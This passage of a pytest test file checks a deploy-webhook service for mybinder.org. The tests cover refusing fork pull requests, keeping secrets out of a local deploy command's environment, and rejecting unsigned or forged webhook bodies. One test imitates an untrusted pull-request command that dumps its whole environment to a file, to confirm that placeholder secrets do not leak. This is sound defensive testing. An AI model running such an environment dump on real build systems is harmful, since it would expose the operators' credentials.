    assert response.status_code == 202 and "older than" in response.get_json()["reason"]
    assert (
        stack.cloudbuild.runs == [] and ("GET", f"/repos/{REPO}/pulls/7") not in stack.github.served
    )


def test_a_pull_request_from_a_fork_never_runs_on_the_deploy_trigger(stack):
    open_pull(stack, head_repo="someone/mybinder.org-deploy")
    for _ in range(2):
        assert (
            stack.send("pull_request", labelled(head_repo="someone/x")).get_json()["action"]
            == "refused"
        )
    [reply] = stack.github.comments[7]
    assert "fork" in reply["body"] and stack.cloudbuild.runs == []


def test_a_pull_request_from_a_fork_runs_on_the_trial_trigger_when_there_is_one(
    stack, function_env
):
    from fakes.cloudbuild import TRIAL_TRIGGER, TRIAL_TRIGGER_ID

    function_env(BINDEROPS_CLOUDBUILD_TRIAL_TRIGGER=TRIAL_TRIGGER)
    open_pull(stack, head_repo="someone/mybinder.org-deploy")
    assert (
        stack.send("pull_request", labelled(head_repo="someone/x")).get_json()["action"]
        == "started"
    )
    [run] = stack.cloudbuild.runs
    assert (
        run["triggerId"] == TRIAL_TRIGGER_ID and run["source"]["substitutions"]["_KIND"] == "trial"
    )
    stack.report(stack.runs("staging")[0], "SUCCESS")
    assert stack.runs("production") == []  # a trial is never promoted


# The local back end: what a deploy command sees
def test_a_local_deploy_command_sees_only_the_allow_listed_variables(tmp_path, monkeypatch):
    """The command runs code from pull requests: it dumps its whole environment here, and
    finds none of binderops' secrets (nor their ``*_FILE`` twins, nor a setting invented
    after this test was written), only the allow-list, what the operator passes on, and
    the facts of its deploy."""
    from conftest import settings_classes

    from binderops.core import config
    from binderops.deploys.localbuild import BUILD_VARIABLES, LocalBuilds

    secrets = {}
    for kind in settings_classes():
        for name, field in config.variables(kind).items():
            if field.metadata["secret"]:
                secrets[name] = f"secret-value-of-{name}"
                secrets[f"{name}_FILE"] = f"/run/secrets/{name}"
    secrets["BINDEROPS_SOMETHING_ADDED_NEXT_YEAR_TOKEN"] = "secret-value-of-the-future"
    secrets["AWS_SECRET_ACCESS_KEY"] = "secret-value-of-another-cloud"
    assert "BINDEROPS_FRESHNESS_ALERT_URL" in secrets  # it carries the alert token
    for name, value in {**secrets, "KUBECONFIG": "/etc/deploy/kubeconfig"}.items():
        monkeypatch.setenv(name, value)
    dump = tmp_path / "env.dump"
    statuses = []

    def accept(request):
        statuses.append(request.headers.get("ce-type", ""))
        return Response(200, {})

    with RecordingServer(accept) as deploy_status:
        local = LocalBuilds(
            tmp_path / "state",
            f"env -0 > {dump}",
            60,
            "binderops-local",
            "cloud-builds",
            deploy_status.url,
            pass_env=("KUBECONFIG",),
        )
        request = builds.DeployRequest(REPO, SHA, "staging", "push", guid("env"))
        build = local.start(request)
        deadline = datetime.now(UTC) + timedelta(seconds=60)
        while (found := local.get(build.id)) and found.status not in builds.TERMINAL:
            assert datetime.now(UTC) < deadline, "the local build did not finish"
            time.sleep(0.1)
    assert found.status == "SUCCESS"
    seen = dict(line.split("=", 1) for line in dump.read_text().split("\0") if line)
    facts = {
        "BINDEROPS_DEPLOY_SHA": SHA,
        "BINDEROPS_DEPLOY_ENVIRONMENT": "staging",
        "BINDEROPS_DEPLOY_REPO": REPO,
        "BINDEROPS_DEPLOY_KIND": "push",
        "BINDEROPS_BUILD_ID": build.id,
    }
    assert facts.items() <= seen.items()
    assert seen["KUBECONFIG"] == "/etc/deploy/kubeconfig"
    # The shell the command runs in adds a few of its own (PWD, SHLVL, _).
    assert set(seen) - set(facts) - {"KUBECONFIG", *BUILD_VARIABLES} <= {"PWD", "SHLVL", "_"}
    leaked = [value for value in secrets.values() if value in dump.read_text()]
    assert leaked == []


@pytest.mark.parametrize("name", ["BINDEROPS_GITHUB_TOKEN", "binderops_alert_token", "A B"])
def test_binderops_settings_cannot_be_passed_to_a_build(function_env, name):
    from binderops.core import config
    from binderops.core.errors import ConfigError
    from binderops.deploys.settings import DeploySettings

    with pytest.raises(ConfigError, match="BINDEROPS_DEPLOY_PASS_ENV"):
        config.read(DeploySettings, {"BINDEROPS_DEPLOY_PASS_ENV": f"KUBECONFIG,{name}"})


# Bodies: an unsigned one is never read; a signed one is read once, in chunks, into the HMAC
class CountingBody(io.BytesIO):
    """A request body that counts the bytes the function reads of it."""

    def __init__(self, data: bytes) -> None:
        super().__init__(data)
        self.taken = 0

    def read(self, size: int | None = -1) -> bytes:
        chunk = super().read(size)
        self.taken += len(chunk)
        return chunk

    def readinto(self, buffer) -> int:  # what werkzeug's stream reads with
        count = super().readinto(buffer)
        self.taken += count
        return count


@pytest.mark.parametrize("signature", ["", "sha1=abc", "sha256"])
def test_an_unsigned_body_is_refused_before_a_byte_of_it_is_read(stack, signature):
    body = CountingBody(b"[" * 5_000_000)
    headers = {
        "X-GitHub-Event": "push",
        "X-GitHub-Delivery": guid("unsigned"),
        "Content-Type": "application/json",
        "Content-Length": str(5_000_000),
    }
    if signature:
        headers["X-Hub-Signature-256"] = signature
    response = stack.webhook.post("/", input_stream=body, headers=headers)
    assert response.status_code == 401 and body.taken == 0


def test_a_wrongly_signed_body_is_read_once_and_refused_before_parsing(stack):
    payload = json.dumps(push()).encode()
    body = CountingBody(payload)
    headers = {
        "X-GitHub-Event": "push",
        "X-GitHub-Delivery": guid("forged"),
        "Content-Type": "application/json",
        "Content-Length": str(len(payload)),
        "X-Hub-Signature-256": sign(payload, "not the secret"),
    }
    response = stack.webhook.post("/", input_stream=body, headers=headers)
    assert response.status_code == 401 and body.taken == len(payload)
    assert stack.cloudbuild.runs == [] and stack.servers[0].requests == []
